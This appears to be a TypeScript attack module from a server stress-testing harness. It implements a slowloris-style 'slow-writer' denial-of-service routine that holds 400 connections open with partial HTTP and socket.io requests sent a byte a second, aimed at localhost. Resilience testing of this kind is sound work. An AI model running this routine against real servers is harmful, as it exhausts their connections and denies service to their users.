import { setTimeout as delay } from 'node:timers/promises';
import type { Attack } from '../harness.ts';
import { dialled, persist } from '../raw.ts';

export const attack: Attack = {
  name: 'slow-writer',
  about: 'sends requests a byte a second over four hundred connections: heads, bodies, and no bytes at all',
  cut: 'late',
  run: (target) => {
    let turn = 0;
    const begun = [
      'GET /api/session HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: ',
      'POST /api/session HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\nContent-Length: 20000\r\n\r\n{"',
      'POST /socket.io/?EIO=4&transport=polling HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 20000\r\n\r\n4',
      '',
    ];
    return persist(target, 400, dialled, async (socket) => {
      socket.resume();
      const start = begun[turn++ % begun.length] ?? '';
      socket.write(start);
      while (!socket.destroyed && !target.signal.aborted) {
        await delay(1_000, undefined, { signal: target.signal }).catch(() => undefined);
        if (start !== '') socket.write('x');
      }
    });
  },
};
